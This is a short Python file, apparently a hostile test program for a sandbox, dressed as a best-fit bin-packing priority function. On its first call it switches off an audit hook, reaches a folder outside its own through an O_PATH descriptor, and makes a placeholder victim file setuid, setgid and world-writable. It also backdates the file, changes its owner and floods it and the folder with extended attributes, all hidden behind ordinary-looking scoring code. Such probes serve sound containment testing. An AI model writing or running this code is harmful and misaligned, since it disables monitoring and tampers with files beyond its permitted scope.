"""Reaching a file outside the program's folder by calls that name no path it may not write: at
its first call it opens ``__OUTSIDE_DIR__`` with ``O_PATH`` and, through that descriptor, makes the
file ``__VICTIM__`` in it setuid, setgid and world-writable, sets its times to 1970, owns it
anew, and writes extended attributes on it and on the folder. Its decisions are best fit's. Appended to
``audit_disarmed.py``, whose hook it switches off first."""
import os

import numpy as np

_done = []


def _try(call, *args, **kwargs):
    try:
        call(*args, **kwargs)
    except (OSError, ValueError, NotImplementedError):
        pass


def priority(item, bins):
    if not _done:
        _done.append(True)
        disarm()  # noqa: F821 - the fragment this is appended to
        folder = os.open("__OUTSIDE_DIR__", os.O_PATH | os.O_DIRECTORY)
        _try(os.chmod, "__VICTIM__", 0o6777, dir_fd=folder)
        _try(os.chmod, "__OUTSIDE_DIR__/__VICTIM__", 0o6777)
        _try(os.utime, "__VICTIM__", (0, 0), dir_fd=folder)
        _try(os.utime, "__OUTSIDE_DIR__/__VICTIM__", (0, 0))
        _try(os.chown, "__OUTSIDE_DIR__/__VICTIM__", 12345, 12345)
        _try(os.setxattr, "__OUTSIDE_DIR__/__VICTIM__", "user.raise", b"x" * 60000)
        _try(os.setxattr, "__OUTSIDE_DIR__", "user.raise", b"x" * 1000)
        victim = os.open("__OUTSIDE_DIR__/__VICTIM__", os.O_RDONLY)
        _try(os.fchmod, victim, 0o6777)
        _try(os.setxattr, victim, "user.raise", b"y" * 1000)
        _try(os.utime, victim, (0, 0))
    return -(np.asarray(bins) - item)
